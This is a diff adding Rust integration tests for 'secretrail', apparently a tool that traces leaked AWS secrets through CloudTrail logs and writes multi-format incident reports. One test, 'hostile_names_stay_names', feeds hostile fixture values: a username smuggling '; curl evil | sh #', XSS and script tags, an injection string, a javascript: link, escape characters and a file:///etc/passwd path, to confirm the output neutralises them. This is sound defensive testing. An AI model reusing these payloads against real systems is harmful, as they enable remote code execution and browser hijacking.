@@ -4,6 +4,7 @@ use std::fs;
 use std::path::Path;
 
 use assert_cmd::Command;
+use serde_json::{Value, json};
 use tempfile::TempDir;
 
 const NOW: &str = "2026-03-28T15:00:00Z";
@@ -56,4 +57,274 @@ fn a_broken_log_is_a_gap() {
     let output = command.output().expect("it runs");
     assert_eq!(output.status.code(), Some(3));
     assert!(String::from_utf8_lossy(&output.stdout).contains("**Not read:** `b.json`"));
+}
+
+fn stix_ids(text: &str) -> Vec<String> {
+    let bundle: Value = serde_json::from_str(text).expect("JSON");
+    assert_eq!(bundle["type"], "bundle");
+    let objects = bundle["objects"].as_array().expect("objects");
+    objects.iter().map(|object| object["id"].as_str().expect("an id").to_owned()).collect()
+}
+
+#[test]
+fn every_format_tells_the_same() {
+    let folder = TempDir::new().expect("a folder");
+    let at = |name: &str| folder.path().join(name).to_string_lossy().into_owned();
+    let also = |format: &str| format!("{format}={}", at(format));
+    let (html, json, stix) = (also("html"), also("json"), also("stix"));
+    let arguments = ["--principal", "root", "--also", &html, "--also", &json, "--also", &stix];
+    let (code, markdown, errors) = review("fallback-root", &arguments);
+    assert_eq!(code, 0, "{errors}");
+    let read = |name: &str| fs::read_to_string(folder.path().join(name)).expect("it was written");
+    let whole: Value = serde_json::from_str(&read("json")).expect("JSON");
+    assert_eq!((&whole["version"], &whole["start"]["value"]), (&json!(1), &json!("root")));
+    let event = whole["timeline"][0]["at"]["event"].as_str().expect("an event");
+    let hash = whole["evidence"][0]["sha256"].as_str().expect("a hash");
+    for text in [&markdown, &read("html")] {
+        assert!(text.contains(event) && text.contains(hash) && text.contains("What this does not show"));
+        assert!(text.contains("aws iam update-access-key --user-name terraform-deployer"), "{text}");
+    }
+    assert!(read("html").contains("default-src 'none'"));
+    let ids = stix_ids(&read("stix"));
+    for kind in [
+        "identity--",
+        "indicator--",
+        "observed-data--",
+        "ipv4-addr--",
+        "user-account--",
+        "relationship--",
+        "report--",
+    ] {
+        assert!(ids.iter().any(|id| id.starts_with(kind)), "{kind}");
+    }
+    let bundle: Value = serde_json::from_str(&read("stix")).expect("JSON");
+    let objects = bundle["objects"].as_array().expect("objects");
+    let report = objects.iter().find(|object| object["type"] == "report").expect("a report");
+    assert_eq!(report["object_refs"].as_array().map(Vec::len), Some(ids.len() - 1), "all but itself");
+    let indicator = objects.iter().find(|object| object["pattern"] == "[ipv4-addr:value = '203.0.113.24']");
+    assert_eq!(indicator.expect("an indicator")["valid_from"], "2026-03-28T14:13:02.000Z");
+}
+
+#[test]
+fn the_same_logs_give_the_same_bytes_in_any_order() {
+    let (cases, folder) = (fixtures(), TempDir::new().expect("a folder"));
+    let tell = |paths: &[&str], format: &str| {
+        let mut command = Command::cargo_bin("secretrail").expect("the binary");
+        command
+            .current_dir(folder.path())
+            .arg("review")
+            .args(paths.iter().map(|path| format!("{cases}/{path}")));
+        command.args(["--now", NOW, "--secret", "/paperclip-app/anthropic/api-key", "--format", format]);
+        let output = command.output().expect("it runs");
+        assert_eq!(output.status.code(), Some(0));
+        output.stdout
+    };
+    for format in ["markdown", "html", "json", "stix"] {
+        let first = tell(&["agent-declared", "fallback-root", "unknown", "bursts"], format);
+        assert_eq!(
+            first,
+            tell(&["bursts", "unknown", "agent-declared", "fallback-root"], format),
+            "{format}"
+        );
+    }
+}
+
+#[test]
+fn a_secret_leads_to_all_who_read_it_and_back_to_who_stands_before() {
+    let (code, told, errors) = review("agent-declared", &["--secret", "paperclip-app/anthropic/api-key"]);
+    assert_eq!(code, 0, "{errors}");
+    for words in [
+        "**start** `ssm:GetParameter`",
+        "agent-deployer",
+        "agent-reader",
+        "L3 (declared)",
+        "AWSReservedSSO_Developer",
+    ] {
+        assert!(told.contains(words), "{words} in\n{told}");
+    }
+    // From the last session of the chain back to the first.
+    let (_, told, _) = review("chain", &["--principal", "breakglass"]);
+    for words in ["### Before it", "`user/alice`", "it called AssumeRole", "aws cloudtrail start-logging"] {
+        assert!(told.contains(words), "{words} in\n{told}");
+    }
+}
+
+#[test]
+fn an_event_leads_to_its_session() {
+    let (_, told, _) = review("tampering", &["--principal", "mallory", "--format", "json"]);
+    let whole: Value = serde_json::from_str(&told).expect("JSON");
+    let event = whole["timeline"][2]["at"]["event"].as_str().expect("an event").to_owned();
+    let (code, told, errors) = review("tampering", &["--event", &event]);
+    assert_eq!(code, 0, "{errors}");
+    assert!(told.contains("**start** ") && told.contains("user/mallory"), "{told}");
+    let (code, _, errors) = review("tampering", &["--event", "00000000-0000-0000-0000-000000000000"]);
+    assert_eq!(code, 2);
+    assert!(errors.contains("no event of these logs has this id"), "{errors}");
+}
+
+#[test]
+fn a_time_narrows_and_what_lies_outside_is_said() {
+    let window =
+        ["--principal", "root", "--since", "2026-03-28T14:16:00Z", "--until", "2026-03-28T14:16:40Z"];
+    let (code, told, errors) = review("fallback-root", &window);
+    assert_eq!(code, 0, "{errors}");
+    assert!(
+        !told.contains("`iam:CreateAccessKey`") && told.contains("Only events from 2026-03-28T14:16:00Z"),
+        "{told}"
+    );
+    let (code, _, errors) = review("fallback-root", &["--principal", "root", "--since", "2027-01-01"]);
+    assert_eq!(code, 2);
+    assert!(errors.contains("lie outside"), "{errors}");
+}
+
+#[test]
+fn key_ids_are_hidden_where_they_are_not_wanted() {
+    for format in ["markdown", "html", "json", "stix"] {
+        let arguments = ["--principal", "root", "--hide-key-ids", "--format", format];
+        let (code, told, errors) = review("fallback-root", &arguments);
+        assert_eq!(code, 0, "{errors}");
+        assert!(
+            !told.contains("AKIAI44QH8DHBEXAMPLE") && !told.contains("ASIAFALLBACKAEXAMPLE"),
+            "{format}: {told}"
+        );
+        assert!(format == "stix" || told.contains("part"), "a part is hidden, and that is said");
+    }
+}
+
+#[test]
+fn the_five_answers_stand_beside_what_was_read() {
+    let folder = TempDir::new().expect("a folder");
+    let list = folder.path().join("SECRETS.md");
+    let table = "| Key | Location | Last Rotated | Owner | Revoke | Breaks | Generate | Verify |\n|---|---|---|---|---|---|---|---|\n\
+        | ANTHROPIC_API_KEY | SSM /paperclip-app/anthropic/api-key | 2026-03-28 | Paperclip | console.anthropic.com | agents | console.anthropic.com | curl status |\n";
+    fs::write(&list, table).expect("written");
+    let list = list.to_string_lossy().into_owned();
+    let (code, told, errors) = review("fallback-root", &["--principal", "root", "--inventory", &list]);
+    assert_eq!(code, 0, "{errors}");
+    for words in [
+        "`ANTHROPIC_API_KEY`: owner Paperclip, last rotated 2026-03-28",
+        "2. What breaks at once? agents",
+        "4. How is it put into its home? **no answer yet**",
+        "aws ssm put-parameter --overwrite --type SecureString --name /paperclip-app/anthropic/api-key --value file:///dev/stdin",
+        "all are in the inventory",
+    ] {
+        assert!(told.contains(words), "{words} in\n{told}");
+    }
+    let (_, told, _) = review("human", &["--principal", "alice", "--inventory", &list]);
+    assert!(told.contains("Not in the inventory"), "{told}");
+}
+
+#[test]
+fn hostile_names_stay_names() {
+    let folder = TempDir::new().expect("a folder");
+    let user = "<img src=x onerror=alert(1)>|`@octocat`\u{1b}[31m\u{202e}'; curl evil | sh #";
+    let event = |at: usize, name: &str, extra: Value| {
+        json!({"eventVersion": "1.11", "eventTime": format!("2026-10-10T15:00:{at:02}Z"), "eventID": format!("e-{at}<b>|"),
+            "eventSource": "iam.amazonaws.com", "eventName": name, "awsRegion": "us-east-1</style><script>",
+            "sourceIPAddress": "198.51.100.7", "userAgent": "x' OR 1 = '1\\ <script>alert(1)</script> | [a](javascript:x)",
+            "recipientAccountId": "123456789012", "readOnly": false, "eventType": "AwsApiCall",
+            "userIdentity": {"type": "IAMUser", "principalId": "AIDA1", "accountId": "123456789012", "userName": user,
+                "arn": format!("arn:aws:iam::123456789012:user/{user}"), "accessKeyId": "AKIAIOSFODNN7EXAMPLE"},
+            "requestParameters": extra, "responseElements": {"accessKey": {"accessKeyId": "AKIAI44QH8DHBEXAMPLE", "userName": user}}})
+    };
+    let events = [
+        event(1, "CreateAccessKey", json!({"userName": user})),
+        event(2, "AttachUserPolicy", json!({"userName": user, "policyArn": "file:///etc/passwd"})),
+        event(3, "PutUserPolicy", json!({"userName": user, "policyName": "-x\n```\n# title"})),
+    ];
+    fs::write(folder.path().join("log.json"), json!({ "Records": events }).to_string()).expect("written");
+    let tell = |format: &str| {
+        let mut command = Command::cargo_bin("secretrail").expect("the binary");
+        command.current_dir(folder.path()).args([
+            "review",
+            "log.json",
+            "--now",
+            NOW,
+            "--key",
+            "AKIAIOSFODNN7EXAMPLE",
+        ]);
+        let output = command.args(["--format", format]).output().expect("it runs");
+        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
+        String::from_utf8(output.stdout).expect("UTF-8")
+    };
+    let (markdown, html) = (tell("markdown"), tell("html"));
+    for text in [&markdown, &html] {
+        assert!(!text.contains(['\u{1b}', '\u{202e}']) && !text.contains("file:///etc/passwd --"), "{text}");
+    }
+    assert!(
+        !html.contains("<img") && !html.contains("<script") && !html.contains("</style><script"),
+        "{html}"
+    );
+    // Outside of code nothing is markup; code starts and ends on one line.
+    let mut in_fence = false;
+    for line in markdown.lines() {
+        if line.trim_start().starts_with("```") {
+            in_fence = !in_fence;
+            continue;
+        }
+        let plain: String = line.split('`').step_by(2).collect();
+        assert!(
+            in_fence || !plain.contains("<img") && !plain.contains("<script") && !plain.contains("](java"),
+            "{line}"
+        );
+        assert!(in_fence || !plain.contains("@octocat"), "{line}");
+        assert_ne!(line.trim(), "# title");
+        if in_fence {
+            assert_one_command(line);
+        }
+    }
+    assert!(!in_fence);
+    let stix = tell("stix");
+    assert!(stix_ids(&stix).len() > 3);
+}
+
+/// A shell reads the line as one command of `aws`: all that could end it stands between quotes.
+fn assert_one_command(line: &str) {
+    let (mut quote, mut plain) = (None, String::new());
+    for letter in line.trim().chars() {
+        match quote {
+            Some(open) if open == letter => quote = None,
+            Some(_) => {}
+            None if ['\'', '"'].contains(&letter) => quote = Some(letter),
+            None => plain.push(letter),
+        }
+    }
+    assert!(quote.is_none(), "{line}");
+    assert!(
+        line.trim().starts_with("aws ") && !plain.contains(['|', ';', '#', '<', '>', '$', '`', '&']),
+        "{line}"
+    );
+}
+
+#[test]
+fn what_cannot_be_asked_is_refused() {
+    for (arguments, words) in [
+        (vec!["review", "."], "required"),
+        (vec!["review", "--key", "x"], "required"),
+        (vec!["review", ".", "--key", "x", "--event", "y"], "cannot be used with"),
+        (vec!["review", "s3://bucket", "--key", "x"], "is a bucket"),
+        (vec!["review", ".", "--key", "x", "-o", "./log.md"], "lies in what is read"),
+        (vec!["review", "none", "--key", "x"], "no CloudTrail event"),
+        (vec!["review", ".", "--key", " "], "nothing to start from"),
+    ] {
+        let folder = TempDir::new().expect("a folder");
+        let mut command = Command::cargo_bin("secretrail").expect("the binary");
+        let output = command.current_dir(folder.path()).args(&arguments).output().expect("it runs");
+        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
+        assert_eq!(output.status.code(), Some(2), "{arguments:?} {errors}");
+        assert!(errors.contains(words), "{words} in {errors}");
+    }
+}
+
+#[test]
+fn standard_input_is_read_once() {
+    let log = fs::read_dir(Path::new(&fixtures()).join("tampering")).expect("the case").next();
+    let text = fs::read(log.expect("a log").expect("a log").path()).expect("read");
+    let mut command = Command::cargo_bin("secretrail").expect("the binary");
+    let output =
+        command.args(["review", "-", "--now", NOW, "--principal", "mallory"]).write_stdin(text).output();
+    let output = output.expect("it runs");
+    assert_eq!(output.status.code(), Some(0));
+    let told = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(told.contains("`(standard input)`") && told.contains("still there"), "{told}");
 }
